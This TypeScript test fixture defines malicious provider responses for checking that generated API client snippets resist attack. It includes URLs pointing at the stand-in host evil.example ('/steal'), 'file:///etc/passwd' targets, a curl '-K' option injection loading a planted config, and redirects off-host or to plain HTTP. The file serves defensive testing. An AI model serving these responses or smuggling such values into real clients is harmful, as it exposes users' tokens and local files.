import type { Language } from '@model-snippets/core'
import { type Answer, bytesAnswer, jsonAnswer } from '../answer.ts'
import type { InputFile } from '../input-file.ts'

/** What a malicious provider does in one run. Everything else in its responses is correct. */
export type MaliciousAnswer = {
  readonly name: string
  /** The language whose examples it affects; all by default. */
  readonly language?: Language
} & (
  | {
      /** `ticket`: URLs and ids of the job in the first response. `address`: the URL of the finished file. */
      readonly at: 'ticket' | 'address'
      /** Returns the text that replaces the honest one. */
      readonly says: (honest: string) => string
      /** Files from earlier runs in the user's folder. */
      readonly files?: readonly InputFile[]
      readonly harmless?: boolean
    }
  | {
      /** The first request, the status requests, or the download. */
      readonly at: 'submit' | 'status' | 'file'
      readonly answers: (url: URL) => Answer
      /** Set if the result is still valid and must be shown. */
      readonly harmless?: boolean
    }
)

/** A host that clients reach if they use a URL, or part of one, without checking it. Nothing responds there. */
export const EVIL = 'evil.example'

/** Another host of the provider's that responds without authentication. The token must never be sent there. */
export const ELSEWHERE = 'elsewhere.example'

/** Settings for curl, in a file that an earlier run saved. */
const SAVED_CONFIG: InputFile = {
  name: 'image.png',
  bytes: Buffer.from(`url = "https://${EVIL}/steal"\noutput = "pwned"\n`),
}

/** A larger file than examples download, if the client supports a limit. */
const HUGE = 2 ** 31

/** The full length of a response that breaks off. */
const BROKEN = Buffer.alloc(1000)

const says = (
  at: 'ticket' | 'address',
  texts: Readonly<Record<string, (honest: string) => string>>,
): MaliciousAnswer[] => Object.entries(texts).map(([name, text]) => ({ at, name, says: text }))

/** With `307`, a client repeats its request unchanged, including the body. */
const movedTo =
  (location: (url: URL) => string) =>
  (url: URL): Answer => ({
    ...bytesAnswer(307, 'text/plain; charset=utf-8', Buffer.from('It is elsewhere.\n')),
    headers: { location: location(url), 'content-length': '17' },
  })

const inTheClear = (url: URL): string => url.href.replace('https:', 'http:')

/** Texts that lead to another host after any prefix, or that contain more than a URL. */
const LEADING_ELSEWHERE: Readonly<Record<string, (honest: string) => string>> = {
  file: () => 'file:///etc/passwd',
  ftp: () => `ftp://${EVIL}/steal`,
  gopher: () => `gopher://${EVIL}:70/_steal`,
  'no-scheme': () => `//${EVIL}/steal`,
}

/** What a provider can do to clients that follow its responses. */
export const MALICIOUS_ANSWERS: readonly MaliciousAnswer[] = [
  ...says('ticket', {
    ...LEADING_ELSEWHERE,
    'behind-at-sign': () => `@${EVIL}/steal`,
    'behind-dot': () => `.${EVIL}/steal`,
    'opaque-behind-at-sign': () => `x:@${EVIL}/steal`,
    'opaque-behind-dot': () => `x:.${EVIL}/steal`,
    option: () => '-Kimage.png',
    'other-host': () => `https://${EVIL}/steal`,
    'other-host-in-the-clear': () => `http://${EVIL}/steal`,
    'other-host-twice': () => `https://${EVIL}//${EVIL}/steal`,
    'other-path': () => '../steal',
    user: () => `https://reader@${EVIL}/steal`,
  }),
  ...says('address', { ...LEADING_ELSEWHERE, 'in-the-clear': (honest) => inTheClear(new URL(honest)) }),
  { at: 'address', name: 'option', says: () => `-K${SAVED_CONFIG.name}`, files: [SAVED_CONFIG] },
  // It's one URL, although curl could expand it; for other clients, it isn't a URL.
  { at: 'address', name: 'many', says: (honest) => honest.replace('output', '[1-3]'), harmless: true, language: 'sh' },
  { at: 'submit', name: 'moved-elsewhere', answers: movedTo(() => `https://${ELSEWHERE}/steal`) },
  { at: 'submit', name: 'moved-into-the-clear', answers: movedTo(inTheClear) },
  { at: 'status', name: 'moved-elsewhere', answers: movedTo(() => `https://${ELSEWHERE}/steal`) },
  { at: 'status', name: 'moved-into-the-clear', answers: movedTo(inTheClear) },
  {
    at: 'file',
    name: 'moved-elsewhere',
    answers: movedTo((url) => `https://${ELSEWHERE}${url.pathname}${url.search}`),
    harmless: true,
  },
  { at: 'file', name: 'moved-into-the-clear', answers: movedTo(inTheClear) },
  { at: 'file', name: 'moved-to-a-file', answers: movedTo(() => 'file:///etc/passwd') },
  { at: 'file', name: 'moved-to-ftp', answers: movedTo(() => `ftp://${EVIL}/steal`) },
  { at: 'file', name: 'moved-without-end', answers: movedTo((url) => url.href) },
  {
    at: 'file',
    name: 'huge',
    answers: () => ({
      status: 200,
      headers: { 'content-type': 'application/octet-stream', 'content-length': String(HUGE) },
      writes: [BROKEN],
      ending: 'cut',
    }),
  },
]

/** Returns its unique name, made of place and kind. */
export const nameOfMaliciousAnswer = ({ at, name }: MaliciousAnswer): string => `${at}-${name}`

/** @throws Error if no malicious answer has that name */
export function maliciousAnswerNamed(name: string): MaliciousAnswer {
  const malicious = MALICIOUS_ANSWERS.find((each) => nameOfMaliciousAnswer(each) === name)
  if (malicious === undefined) throw new Error(`No malicious answer is called ${name}`)
  return malicious
}

/** Changes the texts that refer to the job in the response to a first request. */
export function withMaliciousTexts(
  answer: Answer,
  isOfTheJob: (text: string) => boolean,
  says: (honest: string) => string,
): Answer {
  const [body] = answer.writes
  if (body === undefined) return answer
  return jsonAnswer(
    answer.status,
    JSON.parse(Buffer.from(body).toString(), (_, value) =>
      typeof value === 'string' && isOfTheJob(value) ? says(value) : value,
    ),
  )
}
